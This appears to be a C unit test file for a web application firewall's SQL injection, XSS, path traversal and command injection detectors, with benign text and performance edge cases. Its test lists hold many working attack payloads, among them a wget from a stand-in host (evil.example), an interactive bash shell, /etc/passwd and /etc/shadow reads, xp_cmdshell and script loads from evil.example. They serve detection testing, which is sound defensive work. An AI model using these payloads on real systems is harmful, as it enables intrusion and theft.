/*
 * Unit tests of the WAF's detectors (common/waf_sqli.c, waf_xss.c,
 * waf_shell.c): attacks each must find, natural text none may flag at
 * paranoia 1, and the edge cases: empty, one byte, NUL bytes, invalid
 * UTF-8, and 1 MiB inputs that must take linear time.
 */
#include "../../common/waf_detect.h"
#include "tap.h"

#include <stdlib.h>
#include <time.h>

#define NELEMS(a) (sizeof(a) / sizeof((a)[0]))

static const struct {
    const char *name;
    bn_waf_detect_fn fn;
} detectors[] = {
    { "sqli", bn_waf_sqli },
    { "xss", bn_waf_xss },
    { "traversal", bn_waf_traversal },
    { "cmdi", bn_waf_cmdi },
};

#define NDET (sizeof(detectors) / sizeof(detectors[0]))

static const char *const sqli_attacks[] = {
    "' or '1'='1",
    "1' or '1'='1",
    "' or 1=1--",
    "admin'--",
    "admin' #",
    "\" or \"\"=\"",
    "') or ('a'='a",
    "1 or 1=1",
    "-1 union select 1,2,3",
    "1 UNION ALL SELECT NULL,NULL,NULL--",
    "' union select username, password from users--",
    "1; drop table users",
    "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
    "1 and sleep(5)",
    "sleep(5)#",
    "benchmark(10000000,md5(1))",
    "1' and (select * from (select(sleep(5)))a)--",
    "1' order by 1--+",
    "1 waitfor delay '0:0:5'--",
    "' and extractvalue(1,concat(0x7e,version()))--",
    "1+or+1=1",
    "1/*!50000union*/select 1,2",
    "SELECT * FROM users WHERE id = 1",
    "@@version",
    "1 and ascii(substring((select user()),1,1))>64",
    /* a "+" the URL decoding read as a blank: operands side by side */
    "1' (SELECT 'ab' FROM DUAL WHERE 1=1 UNION ALL SELECT NULL,NULL--",
    "1 pi() and (3=pi())--",
    "x' and 1 2 3=(6)--",
    "1' and char(124) user char(124)=0 and '%'='",
    "456 ascii(substring(passwd,1,1))-10",
    /* statements inside a group, after a ";", SQL Server's control flow */
    "1' + (select 'a' where 1=1; begin dbms_lock.sleep(5); end;-- ) + '",
    "x'; if((1=2),select 1,drop function f);#",
    "'; while 1=1 shutdown--",
    "' if exists (select 1 from information_schema.tables where ",
    "'goto l l: declare @s varchar(80)",
    "10; drop members --",
    /* clauses and modifiers */
    "-1 OR 1 GROUP BY CONCAT(0x7e,(SELECT 1),FLOOR(RAND(0)*2)) HAVING MIN(0)#",
    "1' IN BOOLEAN MODE) AND 1=(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000)) #",
    "-1 lock in share mode union select table_name from information_schema.tables",
    "-(1) for update having 1 union select 1",
    "1<binary 1>2 union select 1",
    "1) from users where username='a')",
    "1,(select (case when (1=1) then (select benchmark(5000000,md5(1))) end))",
    "1')); SELECT LIKE('ABC',UPPER(HEX(RANDOMBLOB(500000000/2))))--",
    "' and (select * from [odbc;driver=sql server;server=1.1.1.1].a.p)",
    "aa' sounds like '1",
    "asd\" or @@global.key_buffer_size^\"1",
    "case 1 when 2 then 2 end",
    "1 order by ifnull(null,userid)",
    "-1/1/**/union#--",
    "1 --",
    "-1 union",
    "1 - ord('a')",
    /* quoted names, PostgreSQL and ODBC lexing, nesting, escapes */
    "0/**/union/*!50000select*/table_name`foo`/**/",
    "-1 union select a [b]",
    /* a function's "(" past the tokens read; a quoted table; an operator
     * left dangling before the union */
    "-1 union select 1,2,version(),4,5,database(),7,8,9,10,11,12,user(),14,15,16,17,18,19,20,21/*",
    "-9949 union select 1,2,3,4,5,6,7,8,9 from \"table\"",
    "1- union(select table_name from information_schema.tables limit 1,1)",
    "0-select/*!1 union select version()*/from test;",
    "$foo$pgsql evade$foo$ union select * from foo",
    "$$x$$ union select 1",
    "1/* /* / */ */ or 1=1-",
    /* A comment after arithmetic, written as a media range is: "/ *" after
     * a "*" still counts where a number comes before it. */
    "1*1*/*",
    "1 * 1 */*",
    "{ts 1}UNION SELECT.`` 1.e.table_name",
    "{fn 1} union select .`a`",
    "SELECT $.`` 1.e.table_name",
    "$.``.id and 0 union select table_name from information_schema.tables",
    "'+or+SOUNDEX+(1)+!=+'0",
    "'+or+MATCH+username+AGAINST+('+admin+-a'+IN+BOOLEAN+MODE);+--+-a",
    "' or match title, body against ('x') --",
    "' or (EXISTS)",
    "\\x27UNION SELECT",
    "\\x27\\x6F\\x72 SELECT *",
    "--';",
    "<>\"'%;)(&+",
    /* a union's first item, whatever follows */
    "-5 union select 1,2,3,column_name,",
    "-1 union select null,concat(user,0x3a,password),null from mysql.user where 1 group",
    /* from: aliases, lists and joins */
    "1'; SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3--",
    "-1 union select user_login from wp_users LEFT JOIN wp_usermeta ON ID=user_id WHERE "
    "meta_key=0x77 AND meta_value>7--",
    "1' union select a from t as x inner join u using (id)--",
    /* a statement after a condition, no ";" */
    "1' WHERE 1=1 WAITFOR DELAY '0:0:5'--",
    "foo) WHERE 8983=8983; CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS "
    "'/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(5)--",
    /* a statement stacked in a group */
    "1 + (SELECT 2971 WHERE 8838=8838; IF(2592=9641) SELECT 2592 ELSE DROP FUNCTION cMuw;-- )",
    /* a SQL function over a comparison of literals */
    "ELT(9352=4778,1)",
    "IIF(4986=4986,1,1/0)",
    "MAKE_SET(1=1,foo)",
    "foo) RLIKE IF(9905=9905,foo,0x28)",
    "(CASE WHEN 6144=6144 THEN foo ELSE NULL END)",
    /* a qualified name cut where the reading stops */
    "-9918 union select null,null,null,concat(user,0x3a,password,0x3a,host),null,null,7,null "
    "from mysql.user",
    /* a list the value goes on with */
    "'+if(benchmark(3000000,MD5(1)),NULL,NULL),NULL,NULL,NULL) --",
    "'),NULL,NULL,NULL) waitfor delay '0:0:20' --",
    ",NULL,NULL) waitfor delay '0:0:20' /*",
    ",(select * from (select(sleep(10)))a)",
    /* a clause first */
    " ORDER BY 1,SLEEP(5),BENCHMARK(1000000,MD5('A')),4,5,6#",
    " HAVING 1=1#",
    " AS INJECTX WHERE 1=1 AND 1=1--",
    /* statements */
    "declare @s varchar (200) select @s = 0x73656c65637420404076657273696f6e exec(@s)",
    "'; execute immediate 'sel' || 'ect us' || 'er'",
    "' insert into users(login, password, level) values( char(0x70) + char(0x65))--",
    /* a union select and a comment after tokens no reading takes */
    "1 or \\.<\\ union select 1,@@VERSION -- 1",
    "*/UNION SELECT password FROM users--",
    /* what a probe sends alone */
    "information_schema.tables",
    "version()",
    "user()--",
    /* statements stacked after a ";" */
    "1;do (1=1)",
    "1;call p(@version, @a)",
    "1;load data infile \"foo\"",
    "1;load xml low_priority infile \"foo\"",
    /* Access's logic words, MySQL's modifiers */
    "foo' Eqv StrComp(username, 0x12+0x34+0xab+0xcd,0) Imp 'a",
    "1=1 AND-+-+-+-+~~((1))",
    "1 union distinctrow select 2",
    "1 into @a union select 2",
    "1' order by 2 desc--",
    /* a case expression as an operand; SQLite's glob */
    "x' == case when 1 then 1 end ||'",
    "aa' or -case when 1 then 1 end='1",
    "1' glob length(1)+'1",
    /* an order by list longer than a reading */
    " ORDER BY 1,SLEEP(5),BENCHMARK(1000000,MD5('A')),4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19#",
    "1)) AS x WHERE 1=1",
    "'; shutdown with nowait; --",
    /* held out of libinjection's misc list and its tokenizer tests */
    "\\1=\\1AND\\1=\\1;",
    "1--sp_password",
    "1 -- foo sp_password",
    "1),(1)) UNION SELECT 1;",
    "1\" UNION ALL SELECT --1 FROM FOO",
    /* MySQL reads "--1" at the start as two signs */
    "--1 union select 2,2,concat_ws(0x3a3a,ID,Name),4 from websites -- ",
    "--1 UNION ALL SELECT * FROM FOO",
    "1' order by @@version #",
    /* sqlmap's boundaries */
    "1)) -- -",
    /* a line comment ends at the line's end (sqlmap's space2hash) */
    "1)#zwz\nAND#zwz\n9988=(SELECT#zwz\nCOUNT(*)#zwz\nFROM#zwz\nGENERATE_SERIES(1,5000000))--",
    "abc'#x\nor#x\n'a'='a",
    "1-- x\nunion select 1,2--",
    "1#trb\nOR#trb\n4021=(SELECT#trb\n4021#trb\nFROM#trb\nPG_SLEEP(5))--#trb\nqfpr",
    /* the value closes a quoted name, or a comment it lands in */
    "abc` WHERE 9502=9502 OR NOT 9502=9502-- eusf",
    "abc`=`abc` AND 1169=(SELECT (CASE WHEN (1169=1169) THEN 1169 ELSE (SELECT 3022 UNION "
    "SELECT 9197) END))-- ilyx",
    "abc]-(SELECT 0 WHERE 8919=8919 AND (SELECT 8919 FROM (SELECT(SLEEP(5)))ozrm))|[abc",
    "abc*/ OR 4591=(SELECT 4591 FROM PG_SLEEP(5))--",
    "abc` WHERE 3612=3612 AND 3612=3612",
    "my table` where 1=1 union select 1,2--",
    "abc def` OR 1=1-- ",
    /* libinjection's tokenizer tests: a backtick left open, a number then
     * a comment */
    "foo\" and 1=1 `",
    "1/* yes this is sqli */",
    /* ghauri's: a call stacked, Oracle's packages after the string */
    "abc';if(now()=sysdate(),sleep(5),0)--",
    "abc' DBMS_LOCK.SLEEP(5)",
    "abc' USER_LOCK.SLEEP(5)",
    " BEGIN IF (8086=8086) THEN DBMS_LOCK.SLEEP(5); ELSE DBMS_LOCK.SLEEP(0); END IF; END;",
    "abc*/ AND 4403=4403-- dxkh",
    /* a call whose name a versioned comment holds */
    "abc' /*!OR*/ !/*!SLEEP*/(5)#",
    "-7841*/ OR 9791=UTL_INADDR.GET_HOST_ADDRESS('qkjpq'||(SELECT 1 FROM DUAL)||'qzvxq')/*",
    "1) #",
    "1 ,(CASE WHEN 5010=5010 THEN 1 ELSE NULL END)",
    "1 (CASE WHEN 5010=5010 THEN 1 ELSE NULL END)",
    "1 SELECT 'qkjxq'||(CASE WHEN (5010=5010) THEN 1 ELSE 0 END)||'qvzpq'",
    /* an operator first: the query's operand stands before it */
    "=1 union select 1,2,version()",
    "|coalesce(benchmark(3000000,MD5(1)),NULL)",
    /* a union select of a list after tokens no reading takes */
    "1 or \\.<\\ union select 1,@@VERSION",
    /* a limit past the reading's last token */
    " selECt 1,2,3,concat_ws(0x3a,username,PASSWORD),5,6,7,8,9,10,11,12,13,14,15,16,17,18 "
    "from admin limit 0,1 -- ",
    "SELECT information_schema 1337.e.tables 13.37e.table_name",
    "x' and name in (select name from sysobjects",
    /* MySQL's "--1" inside the value: minus minus one */
    "@version--1 union select 1,2,3,4 FROM credit_cards",
    "1001 rlike(1--1)union select 1,2,3,4 from credit_cards",
    "null--1 OR @a = 1",
    /* a SQL function on a literal, then an empty comment */
    "ascii(5)#",
    "elt(null)-- ",
    /* a system variable tested */
    "Case when 'a' then @@version end",
    "1=@@version and - - - - ~~((1))",
    /* held out of libinjection's forums list */
    "1 SELECT * from adminuser group by adminuser.userid having 1=1#",
    "limit 0,1--",
    " ORDER BY 3-- ",
    "-2003 union select u.* from users u/*",
    "2';Use master exec xp_cmdhshell 'ping127.0.0.1'--",
    "iuc,20,1764,1768 and 1=@@version",
    "1'id=-13 union select 1,2,3,4,5,6,7,8,9,10,11,12,13/*",
    "6 and substring(version(),1,1)=3:)",
    /* public lists outside the corpus, and variants of its tune half */
    " union select",
    " UNION ALL SELECT",
    " union select * from users where login = char ...",
    "sUE.,: select * from users where id='1' union select \\.,@@VERSION -- 1'",
    "-1 union select top 1 username char(0x7e) password,222,333 from Operators--",
    "select * from syscat.dbauth where grantee = current user;",
    "'; grant connect to name; grant resource to name; --",
    "1; desc users;#",
    "create user name identified by 'pass123'",
    "insert into mysql.user (user, host, password) values ('name', 'localhost', password('p'))",
    "1;(load_file(char(47,101,116,99,47,112,97,115,115,119,100))),1,1,1;",
    " or x=x",
    " OR a = a#",
    "(5550=8168)*1",
    "select 'foo' from bar where -- -",
    "-9467' UNION ALL",
    "1' id union (select id from users limit 1,1)",
    "binary (false) union select",
    "1) ascii(substring(length(version()),1,1))",
    "')) uncompress(compress(version()))",
    "1; update users --",
    "(@x) OR (@y) UNION ALL",
    "aa' >= @@version",
    "' != pi()",
    "x' <> (1)",
    "abc'+*+@a",
    "1 xor 1;--",
    "(1) group by ((1));--",
    "1*1 procedure analyse()",
    "test'-'xyz' into outfile '/tmp/x'",
};

static const char *const xss_attacks[] = {
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert('x')>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<iframe src=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "<object data=x.swf>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<div style=\"width:expression(alert(1))\">",
    "';alert(1)//",
    "\"-alert(1)-\"",
    "'};top['al'+'ert'](1);{'",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "javascript:alert(document.cookie)",
    "\" onmouseover=\"alert(1)",
    "</script><script>alert(1)</script>",
    "<x a='<img src=x onerror=alert(1)>'>",
    "< script >alert(1)< / script >",
    "<a href=\"\xe1\xa0\x8ejavascript:alert(1)\">x</a>",
    "<a href=\"\xe7\x8f\xbajavascript:alert(1)\">x</a>",
    "<a href=\"javAascript:javascript:alert(1)\">x</a>",
    "<a href=\"javascript#alert(1)\">x</a>",
    "<svg>",
    "<svg:svg>",
    "<style>*{color:red}</style>",
    "<div style=\"background:url(//evil.example/x)\">",
    "<div style=\"/**/color:red\">",
    "<div style=\"font-family:foo}color=red;\">",
    "<div style=\"background:\\0075\\0072\\006C(x)\">",
    "<div style=\"font-family:'foo\n;color:red;';\">",
    "<div style=\"behaviour: url(x.htc)\">",
    "<LINK REL=stylesheet HREF=//evil.example/x.css>",
    "<span datasrc=#x datafld=c dataformatas=html></span>",
    "<img xmlns=\"x-schema:x.xdr\"/>",
    "<math><a xlink:href=\"//evil.example/\">x",
    "<set attributeName=\"onmouseover\" to=\"alert(1)\"/>",
    "<set attributeName=\"xlink:href\" to=\"//evil.example/\"/>",
    "<meta charset=\"utf-7\">",
    "<!DOCTYPE x [<!ENTITY x SYSTEM \"http://evil.example/\">]><y>&x;</y>",
    "<!ATTLIST img src CDATA \"x\" onerror CDATA \"alert(1)\">",
    "<?xml-stylesheet type=\"text/xsl\" href=\"#\"?>",
    "'';!--\"<x>=&{()}",
    "x' \\\" onload=\\\"y\\\"",
    "<// style=x:expression\\28alert(1)\\29>",
};

static const char *const traversal_attacks[] = {
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "..;/..;/WEB-INF/web.xml",
    "/etc/shadow",
    "/proc/self/environ",
    "c:\\boot.ini",
    "file:///etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php",
    "/var/www/../../etc/passwd",
    "..\\/..//x",
    "0x2e0x2e0x2fboot.ini",
};

static const char *const cmdi_attacks[] = {
    ";id",
    "; cat /etc/passwd",
    "| whoami",
    "&& uname -a",
    "`id`",
    "$(whoami)",
    "x;c'a't${IFS}/etc/passwd",
    "a|/?\?\?/c?t /etc/passwd",
    "; sleep 5",
    "\nwget http://evil.example/x.sh",
    "& net user",
    "| powershell -enc AAAA",
    "{cat,/etc/passwd}",
    "127.0.0.1 && ping -c 3 10.0.0.1",
    "a; /bin/bash -i",
    "& FOR /F %a IN ('dir') DO echo %a",
    "1' | ps aux&",
    "foo ; set #",
    "test.txt | set#",
    "x|echo\tvulnerable",
    "' ; chmod\t+x\t/tmp/x.sh&",
    "'|ip addr ||",
    "127.0.0.1 ; /usr/bin/id",
    "\";echo vulnerable",
    "| net user#",
    "../../../../../../../../../../../../usr/bin/env|",
    ";exit(md5('x'));//",
    "Kernel.exec(\"ls -al /\")",
    "%x('ls -al /')",
};

/* Natural text none of the detectors may flag at paranoia 1. */
static const char *const benign[] = {
    "O'Brien",
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "*/*",
    "application/json, text/plain, */*",
    ":'(",
    "';)",
    "$5 and $10",
    "$.store.book[0].title",
    "price: $$ or $$$",
    "{name} or {other}",
    "select a `b` c",
    "Smiths' or exists",
    "match the colors against the wall",
    "(see the modification) from Joel",
    "do not use u_int",
    "fix close_range() use [Karel Zak]",
    "configure for 'poll()' in preference to 'select()', since older",
    "drop reachable_via function",
    "if (a=1, b=2) or",
    "the workers' union select a leader",
    "left join on the right",
    "order by date",
    "having fun, as always",
    "user(s) of the version (2)",
    "the version() call",
    "while (n > 0) do",
    "always call si_detach_endpoint() on async connection failure",
    "Call RxFuncAdd('Test1LoadFuncs', 'TEST1', 'Test1LoadFuncs')",
    "do (not) panic",
    "load the data infile",
    "C:\\2024\\reports -- final",
    "see sp_password -- the docs",
    /* quoted names and comments of prose and code, lines after a comment */
    "the text can be found in `/usr/share/common-licenses/GPL-3'.",
    "[root@host root]# fdisk -lu /dev/hda",
    "`#658 <https://github.com/pyca/pyopenssl/pull/658>`_",
    "int x; /* the count */ x = 1 || y;",
    "Vdata.size := Length(Aca_pem);",
    "\"core.sleep()\" or \"core.msleep()\" for waiting the next runtime.",
    "FmtStr(Msg, 'actual.NodeName (%s) != correct.NodeName (%s)', [actual.NodeName])",
    "it's sys.path or not",
    "begin if you want, then sleep(5) hours",
    "begin if (you want) then sleep(5) hours; at the end",
    "only recognizes double `\"` for quoting. In Powershell or Git bash, both `'`",
    "inject the contents of the blob prepared with `--experimental-sea-config\"`",
    "see the `users` table where id = 1 and more",
    "see `users` or `groups`, then -- or not",
    "the list [a, b] and [c] or more",
    "# Title\nSome text, or other text.\n",
    "x = 1  # set it\nif x == 1 and y:\n    pass",
    "--3--",
    "2) # of items",
    "* (select one) and go",
    "  * [hppa,sparc64] udeb: Delete osst from scsi-modules (fixes FTBFS)",
    "= sleep well, and eat",
    "in case 1 then 2, at the end",
    "--verbose -- the flag",
    "and --with-install-prefix (reported by Matthew Clarke",
    "fetch: document and test --refmap=\"\"",
    "chapter 5--7 and 9",
    "max(5) # of items",
    "order by date -- newest first",
    "limit 5 -- per day",
    "1 select all that apply",
    "use it; do it",
    "the workers' union selected 2 delegates -- a first",
    "2 and max(3)=4 apples",
    ", and then (select one)",
    "Change \"exec touch\" to",
    "better type checking on MIB for 'exec MIB' entries.",
    "C:\\x27s folder",
    "/* a /* b */ c */",
    "Rock 'n' roll",
    "select the best union of ideas",
    "drop me a line",
    "I'd like 1 or 2",
    "Please select one from the list below",
    "the workers' union",
    "Tom and Jerry",
    "It's 5 -- maybe 6",
    "a < b",
    "<3",
    "I <3 you",
    "x<y and y>z",
    "if a<b then c>d",
    "cats; cat food is great",
    "R&D and AT&T",
    "id",
    "sleep",
    "curl",
    "Wait.../what",
    "see the docs...",
    "javascript: the good parts",
    "online=yes",
    "5'10\" tall",
    "Q&A: why do birds sing?",
    "He said \"hello\" and left; then ran.",
    "Use (parentheses) sparingly",
    "email me: john.doe@example.com",
    "C++ and C# are languages",
    "price: $5 (incl. tax)",
    "the students' and teachers' union",
    "I'm not sure; what do you think?",
    "Sam",
    "2 + 2 = 4",
    /* near the shapes above: words side by side, control flow in prose */
    "difference between select comfort mattress",
    "select napkin laptop",
    "If you select all and then drop the files here, they upload at once.",
    "recipe for drop shipping",
    "in case when you need it then call",
    "Case when the lights go out then end",
    "Temperatures between -5 and 10 degrees; bring a jacket.",
    "call 555 1234 -- thanks",
    "chapter 1 -- the beginning",
    "binary search tree",
    "lock in share mode",
    "Order by phone or online; either way it ships in 2-3 days.",
    "10 union square",
    "room 5 (west wing) and 6=six",
    "label: value",
    "sounds like a plan",
    "a<b",
    "x => y",
    "rock & roll",
    "C:\\Users\\me",
    "cd ~/work; make",
    "<!DOCTYPE html>",
    "<?xml version=\"1.0\"?>",
    "<p style=\"color:red; font-weight:bold\">hi</p>",
    "<a href=\"https://example.com/a?b=c\">link</a>",
    "see <b>this</b> & <i>that</i>",
    "style: casual",
    "Item 4; type #2 paper",
    "He said 'yes'; who knew?",
    "pens, pencils & more",
    "b&w photos",
    "a=1&type=2&id=5",
    "Teachers' union",
    "done; grant access to all",
    "'@1; show info; show stat; @2; show info'",
    "if (n != N) abort();",
    "if (x != x) return NAN;",
    "(3072 * 8192) + 384 = 25166208",
    "(2+2=4) is true",
    "create user accounts for the team",
    "Version 2; update",
    "Cocoa and Objective-C; update build",
    "use \"if (\" instead of \"if(\".",
    "Merge \"cosmetics: use '== 0' in size checks\"",
    "(transit_state_singlebyte): Omit '!= NULL' in boolean context.",
    "PROCEDURE SetCursorSize(CurDat:WORD);",
    "@ARGV = @_;  # set global ARGV for this package",
    "Event: 'close'#",
};

static bool
any_match(const char *s, size_t n, bn_waf_detect_t *m, const char **which)
{
    for (size_t k = 0; k < NDET; k++) {
        if (detectors[k].fn(s, n, 1, m)) {
            *which = detectors[k].name;
            return true;
        }
    }
    return false;
}

static void
check_list(const char *const *list, size_t count, bn_waf_detect_fn fn, const char *name)
{
    bn_waf_detect_t m;

    for (size_t i = 0; i < count; i++) {
        bool hit = fn(list[i], strlen(list[i]), 1, &m);
        char shown[128];
        size_t k;

        /* TAP lines cannot hold a newline. */
        for (k = 0; list[i][k] != '\0' && k < sizeof(shown) - 1; k++) {
            shown[k] = (unsigned char) list[i][k] < ' ' ? '?' : list[i][k];
        }
        shown[k] = '\0';
        ok(hit && m.reason != NULL && strlen(m.fingerprint) < sizeof(m.fingerprint),
           "%s finds %s (%s [%s])", name, shown, hit ? m.reason : "no match",
           hit ? m.fingerprint : "");
    }
}

static double
seconds(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double) ts.tv_sec + (double) ts.tv_nsec / 1e9;
}

/* Each detector on 1 MiB of pattern repeated, and on 2 MiB: the time may
 * grow about twice, not four times; and the whole stays well under a second
 * even in a sanitizer build. */
static void
check_linear(const char *pattern)
{
    size_t plen = strlen(pattern), big = 2u << 20;
    char *buf = malloc(big);
    bn_waf_detect_t m;

    if (buf == NULL) {
        ok(0, "malloc");
        return;
    }
    for (size_t i = 0; i < big; i++) {
        buf[i] = pattern[i % plen];
    }
    for (size_t k = 0; k < NDET; k++) {
        double t0 = seconds(), t1, t2;

        detectors[k].fn(buf, big / 2, 4, &m);
        t1 = seconds() - t0;
        t0 = seconds();
        detectors[k].fn(buf, big, 4, &m);
        t2 = seconds() - t0;
        ok(t2 < 2.0 && t2 < 6 * t1 + 0.02, "%s on 1 MiB then 2 MiB of \"%s\": %.4f s, %.4f s",
           detectors[k].name, pattern, t1, t2);
    }
    free(buf);
}

int
main(void)
{
    bn_waf_detect_t m;
    const char *which;

    check_list(sqli_attacks, NELEMS(sqli_attacks), bn_waf_sqli, "sqli");
    check_list(xss_attacks, NELEMS(xss_attacks), bn_waf_xss, "xss");
    check_list(traversal_attacks, NELEMS(traversal_attacks), bn_waf_traversal, "traversal");
    check_list(cmdi_attacks, NELEMS(cmdi_attacks), bn_waf_cmdi, "cmdi");

    for (size_t i = 0; i < NELEMS(benign); i++) {
        bool hit = any_match(benign[i], strlen(benign[i]), &m, &which);

        ok(!hit, "benign: %s%s%s", benign[i], hit ? " flagged by " : "", hit ? which : "");
        if (hit) {
            printf("#   %s [%s]\n", m.reason, m.fingerprint);
        }
    }

    /* Paranoia: a shape that level 1 lets through and level 2 flags. */
    ok(!bn_waf_sqli("1 or 2", 6, 1, &m) && bn_waf_sqli("1 or 2", 6, 2, &m),
       "sqli: \"1 or 2\" only at paranoia 2");
    ok(!bn_waf_xss("alert(1)", 8, 1, &m) && bn_waf_xss("alert(1)", 8, 2, &m),
       "xss: a bare alert(1) only at paranoia 2");
    ok(!bn_waf_cmdi("whoami", 6, 1, &m) && bn_waf_cmdi("whoami", 6, 2, &m),
       "cmdi: a bare whoami only at paranoia 2");
    ok(bn_waf_sqli("' or 1=1--", 10, 0, &m) && bn_waf_sqli("' or 1=1--", 10, 99, &m),
       "paranoia 0 reads as 1 and 99 as 4");

    /* Edge cases: no detector matches nothing, and a miss leaves m empty. */
    for (size_t k = 0; k < NDET; k++) {
        m.reason = "stale";
        strcpy(m.fingerprint, "stale");
        ok(!detectors[k].fn("", 0, 1, &m) && m.reason == NULL && m.fingerprint[0] == '\0',
           "%s: empty input, no match, m cleared", detectors[k].name);
        ok(!detectors[k].fn("'", 1, 4, &m), "%s: a lone quote",
           detectors[k].name);
        ok(!detectors[k].fn("<", 1, 4, &m) && !detectors[k].fn(".", 1, 4, &m)
               && !detectors[k].fn(";", 1, 4, &m) && !detectors[k].fn("\0", 1, 4, &m),
           "%s: single bytes", detectors[k].name);
        ok(!detectors[k].fn("\xff\xfe\xc0\xaf\xed\xa0\x80", 7, 4, &m),
           "%s: invalid UTF-8 alone", detectors[k].name);
    }
    ok(bn_waf_sqli("1' or\0 '1'='1", 13, 1, &m), "sqli: a NUL byte splits tokens as a blank");
    ok(bn_waf_xss("<img\0 src=x onerror=alert(1)>", 30, 1, &m),
       "xss: a NUL byte inside a tag is a blank");
    ok(bn_waf_traversal("/etc/passwd\0.png", 16, 1, &m), "traversal: NUL truncation");
    ok(bn_waf_traversal("../x.php\0.jpg", 13, 1, &m), "traversal: dot-dot then NUL");
    ok(bn_waf_xss("\xff<script>\xfe", 10, 1, &m), "xss: a tag between invalid UTF-8 bytes");
    ok(bn_waf_sqli("\xc3' or 1=1-- \xff", 13, 1, &m), "sqli: an attack in invalid UTF-8");
    {
        /* Shapes that hold no quote, comment, "||" or "&&": each gets past
         * the early exit on a single word, some of them found inside a run
         * of name bytes after a number. */
        static const char *const bare[] = {
            "1.e5or 1=1", "0x1or 1=1", "10xor 1=1", "2union select 1", "1 from users",
            "1 procedure analyse(1,1)", "2 where 1=1", "1 having 1=1", "1 order by 1",
            "1 limit 1", "case when 1 then 2 end", "sleep (5)", "1-ascii (1)",
            "if (1=1,sleep(5),0)", "1;drop table t", "@@version",
        };

        for (size_t k = 0; k < NELEMS(bare); k++) {
            ok(bn_waf_sqli(bare[k], strlen(bare[k]), 1, &m), "sqli: early exit keeps %s",
               bare[k]);
        }
    }
    /* An operand right after a leading ")": no token before the first one
     * is read (the value has no such token, whatever the stack holds). */
    ok(!bn_waf_sqli(") 1 or 1=1", 10, 1, &m),
       "sqli: \") 1 or 1=1\" reads no token before the first");
    {
        static const char fp_at_end[] = "a/..";

        ok(bn_waf_traversal(fp_at_end, 4, 1, &m) && strcmp(m.fingerprint, "..") == 0,
           "traversal: a trailing /.. and its fingerprint stays inside the value");
    }
    {
        /* "file:" and one byte at the value's end: the drive-letter test
         * read the byte after it (found by the waf_detect fuzz target);
         * a copy of exactly that size lets AddressSanitizer see it. */
        static const char *const ends[] = { "??file:\"", "file:c", "file:" };

        for (size_t k = 0; k < NELEMS(ends); k++) {
            size_t len = strlen(ends[k]);
            char *v = malloc(len);

            memcpy(v, ends[k], len);
            ok(!bn_waf_traversal(v, len, 1, &m), "traversal: %s at the end is no wrapper",
               ends[k]);
            free(v);
        }
        ok(bn_waf_traversal("file:c:/boot.ini", 16, 1, &m), "traversal: file:c: is one");
    }

    check_linear("'");
    check_linear("(");
    check_linear("<a b='");
    check_linear("; ");
    check_linear("../");
    check_linear("' or (");
    check_linear("<<script");
    check_linear("$(c'a");
    return done_testing();
}
